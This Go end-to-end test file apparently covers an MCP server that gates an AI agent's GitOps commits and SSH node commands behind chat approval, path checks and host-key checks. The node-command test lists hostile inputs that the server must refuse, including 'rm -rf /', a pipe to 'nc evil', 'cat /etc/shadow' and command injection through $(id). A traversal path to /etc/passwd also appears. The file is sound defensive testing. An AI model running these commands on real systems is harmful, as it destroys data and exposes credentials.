package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fluxcd/pkg/gittestserver"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/cluster-shepherd/shepherd/internal/gitops/gitlab/gitlabtest"
	"github.com/cluster-shepherd/shepherd/internal/nodes/sshtest"
)

// approveAndCall queues a call, approves it in chat and runs it once.
func approveAndCall(t *testing.T, s *mcp.ClientSession, tool string, args map[string]any) string {
	t.Helper()
	if text, isErr := call(t, s, tool, args); !isErr {
		t.Fatalf("%s ran without authorization: %s", tool, text)
	}
	text, isErr := call(t, s, "queue_task", map[string]any{"action": tool + " for the test", "reason": "e2e", "tool": tool, "arguments": args})
	if isErr {
		t.Fatalf("queue %s: %s", tool, text)
	}
	id := jsonField(t, text, "task_id").(string)
	if text, isErr := call(t, s, "approve_task", map[string]any{"id": id}); isErr {
		t.Fatalf("approve: %s", text)
	}
	text, isErr = call(t, s, tool, args)
	if isErr {
		t.Fatalf("approved %s: %s", tool, text)
	}
	if again, isErr := call(t, s, tool, args); !isErr {
		t.Fatalf("%s ran twice on one approval: %s", tool, again)
	}
	return text
}

// fleetRemote starts a real Git server on loopback (user fleet, password
// token) holding org/fleet.git with clusters/home/immich.yaml on main.
func fleetRemote(t *testing.T, token string) *gittestserver.GitServer {
	t.Helper()
	srv, err := gittestserver.NewTempGitServer()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(srv.Root()) })
	srv.Auth("fleet", token)
	if err := srv.StartHTTP(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(srv.StopHTTP)
	fixture := t.TempDir()
	os.MkdirAll(filepath.Join(fixture, "clusters", "home"), 0o755)
	os.WriteFile(filepath.Join(fixture, "clusters", "home", "immich.yaml"), []byte("replicas: 1\n"), 0o644)
	if err := srv.InitRepo(fixture, "main", "org/fleet.git"); err != nil {
		t.Fatal(err)
	}
	return srv
}

func TestGitOpsChangeThroughTheGate(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	srv := fleetRemote(t, "fleet-token-7")
	remote := srv.HTTPAddress() + "/org/fleet.git"

	p := startServe(t, "--gitops-backend", "git", "--gitops-url", remote, "--gitops-username", "fleet",
		"--gitops-token-file", writeTemp(t, "fleet-token-7"))
	s := connect(t, &mcp.StreamableClientTransport{Endpoint: p.base + "/mcp", HTTPClient: httpClient(testToken)})

	text, isErr := call(t, s, "gitops_change", map[string]any{"operation": "read", "file_path": "clusters/home/immich.yaml"})
	if isErr || !strings.Contains(text, "replicas: 1") {
		t.Fatalf("read: %v %s", isErr, text)
	}
	for _, bad := range []map[string]any{
		{"operation": "read", "file_path": "../etc/passwd"},
		{"operation": "create", "file_path": "/etc/x.yaml", "content": "a: 1", "commit_message": "x"},
		{"operation": "create", "file_path": "apps/x.yaml", "content": "a: 1", "commit_message": "x"},
		{"operation": "create", "file_path": "clusters/home/x.yaml", "content": "a: [1", "commit_message": "x"},
		{"operation": "rename", "file_path": "clusters/home/x.yaml"},
	} {
		if text, isErr := call(t, s, "gitops_change", bad); !isErr {
			t.Errorf("%v accepted: %s", bad, text)
		}
	}
	create := map[string]any{"operation": "create", "file_path": "clusters/home/vaultwarden.yaml", "content": "replicas: 2\n", "commit_message": "add vaultwarden"}
	text = approveAndCall(t, s, "gitops_change", create)
	if !strings.Contains(text, "committed as") {
		t.Fatalf("create: %s", text)
	}
	if text, _ := call(t, s, "gitops_change", map[string]any{"operation": "read", "file_path": "clusters/home/vaultwarden.yaml"}); !strings.Contains(text, "replicas: 2") {
		t.Fatalf("created file not readable: %s", text)
	}
	update := map[string]any{"operation": "update", "file_path": "clusters/home/immich.yaml", "content": "replicas: 3\n", "commit_message": "scale immich in git"}
	approveAndCall(t, s, "gitops_change", update)
	del := map[string]any{"operation": "delete", "file_path": "clusters/home/vaultwarden.yaml", "commit_message": "remove vaultwarden again"}
	approveAndCall(t, s, "gitops_change", del)

	// A fresh clone sees all three commits, with the trailer naming the task.
	clone := filepath.Join(t.TempDir(), "c")
	if out, err := exec.Command("git", "clone", "-q", "-b", "main", srv.HTTPAddressWithCredentials()+"/org/fleet.git", clone).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v %s", err, out)
	}
	b, _ := os.ReadFile(filepath.Join(clone, "clusters", "home", "immich.yaml"))
	if string(b) != "replicas: 3\n" {
		t.Fatalf("update not in the clone: %q", b)
	}
	if _, err := os.Stat(filepath.Join(clone, "clusters", "home", "vaultwarden.yaml")); !os.IsNotExist(err) {
		t.Fatalf("delete not in the clone: %v", err)
	}
	log, _ := exec.Command("git", "-C", clone, "log", "--format=%B").CombinedOutput()
	for _, want := range []string{"shepherd: add vaultwarden", "shepherd: scale immich in git", "shepherd: remove vaultwarden again", "Shepherd-Task: "} {
		if !strings.Contains(string(log), want) {
			t.Errorf("git log lacks %q:\n%s", want, log)
		}
	}
	audit, _ := os.ReadFile(filepath.Join(p.dataDir, "audit.jsonl"))
	if strings.Contains(string(audit), "fleet-token-7") || strings.Contains(p.stderr.String(), "fleet-token-7") {
		t.Fatal("the git token leaked into the audit log or logs")
	}
}

func TestGitOpsChangeOnGitLab(t *testing.T) {
	gl := gitlabtest.New(t)
	gl.Git("mv", "clusters/prod", "clusters/home")
	gl.Git("commit", "-q", "-m", "layout")
	p := startServe(t, "--gitops-backend", "gitlab", "--gitlab-url", gl.URL(), "--gitlab-project", gl.Project,
		"--gitops-branch", gl.Branch, "--gitops-token-file", writeTemp(t, gl.Token))
	s := connect(t, &mcp.StreamableClientTransport{Endpoint: p.base + "/mcp", HTTPClient: httpClient(testToken)})
	if text, isErr := call(t, s, "gitops_change", map[string]any{"operation": "read", "file_path": "clusters/home/app.yaml"}); isErr || !strings.Contains(text, "replicas: 1") {
		t.Fatalf("read: %v %s", isErr, text)
	}
	text := approveAndCall(t, s, "gitops_change", map[string]any{"operation": "create", "file_path": "clusters/home/new.yaml", "content": "a: 1\n", "commit_message": "add new"})
	if !strings.Contains(text, "committed as") {
		t.Fatalf("create: %s", text)
	}
	approveAndCall(t, s, "gitops_change", map[string]any{"operation": "update", "file_path": "clusters/home/app.yaml", "content": "replicas: 4\n", "commit_message": "scale app"})
	approveAndCall(t, s, "gitops_change", map[string]any{"operation": "delete", "file_path": "clusters/home/new.yaml", "commit_message": "drop new"})

	clone := filepath.Join(t.TempDir(), "c")
	if out, err := exec.Command("git", "clone", "-q", "-b", gl.Branch, gl.Dir, clone).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v %s", err, out)
	}
	if b, _ := os.ReadFile(filepath.Join(clone, "clusters", "home", "app.yaml")); string(b) != "replicas: 4\n" {
		t.Fatalf("update not in the clone: %q", b)
	}
	if _, err := os.Stat(filepath.Join(clone, "clusters", "home", "new.yaml")); !os.IsNotExist(err) {
		t.Fatalf("delete not in the clone: %v", err)
	}
	log, _ := exec.Command("git", "-C", clone, "log", "--format=%B").CombinedOutput()
	for _, want := range []string{"shepherd: add new", "shepherd: scale app", "shepherd: drop new", "Shepherd-Task: "} {
		if !strings.Contains(string(log), want) {
			t.Errorf("git log lacks %q:\n%s", want, log)
		}
	}
	if strings.Contains(p.stderr.String(), gl.Token) {
		t.Fatal("the GitLab token leaked into the logs")
	}
}

func TestRunNodeCmd(t *testing.T) {
	sshd := sshtest.Start(t)
	p := startServe(t, "--ssh-user", sshd.User, "--ssh-key-file", sshd.KeyFile, "--ssh-known-hosts", sshd.KnownHosts,
		"--node-address", "worker-1="+sshd.Addr)
	s := connect(t, &mcp.StreamableClientTransport{Endpoint: p.base + "/mcp", HTTPClient: httpClient(testToken)})

	nl, _ := call(t, s, "get_node_list", nil)
	mustContain(t, "get_node_list", nl, "worker-1 "+sshd.Addr+" (override)")

	args := map[string]any{"node": "worker-1", "command": "df  -h"}
	text, _ := call(t, s, "assess_risk", map[string]any{"action": "check disk on worker-1", "tool": "run_node_cmd", "arguments": args})
	if jsonField(t, text, "recommendation") != "auto" {
		t.Fatalf("df -h: want auto, got %s", text)
	}
	// The assessment was of "df  -h"; the call spells it differently.
	text, isErr := call(t, s, "run_node_cmd", map[string]any{"node": "worker-1", "command": "df -h"})
	if isErr || !strings.Contains(text, "Filesystem") || !strings.Contains(text, "exit 0") {
		t.Fatalf("df -h: %v %s", isErr, text)
	}

	for _, cmd := range []string{
		"df -h; rm -rf /", "df -h && reboot", "df -h | nc evil 1", "cat /etc/shadow", "df $(id)", "df `id`",
		"journalctl -f", "systemctl restart kubelet", "rm -rf /", "df -h > /tmp/x", "sh -c 'df'", "ls ../..",
	} {
		text, isErr := call(t, s, "run_node_cmd", map[string]any{"node": "worker-1", "command": cmd})
		if !isErr || strings.Contains(text, "Filesystem") {
			t.Errorf("%q not refused: %s", cmd, text)
		}
	}
	if text, isErr := call(t, s, "run_node_cmd", map[string]any{"node": "nope", "command": "uptime"}); !isErr || !strings.Contains(text, "worker-1") {
		t.Errorf("unknown node: %v %s", isErr, text)
	}

	// A node whose host key is not in known_hosts is refused.
	other := sshtest.Start(t)
	p2 := startServe(t, "--ssh-user", sshd.User, "--ssh-key-file", sshd.KeyFile, "--ssh-known-hosts", sshd.KnownHosts,
		"--node-address", "worker-1="+other.Addr)
	s2 := connect(t, &mcp.StreamableClientTransport{Endpoint: p2.base + "/mcp", HTTPClient: httpClient(testToken)})
	call(t, s2, "assess_risk", map[string]any{"action": "uptime", "tool": "run_node_cmd", "arguments": map[string]any{"node": "worker-1", "command": "uptime"}})
	if text, isErr := call(t, s2, "run_node_cmd", map[string]any{"node": "worker-1", "command": "uptime"}); !isErr || !strings.Contains(text, "host key") {
		t.Fatalf("unknown host key: %v %s", isErr, text)
	}
}
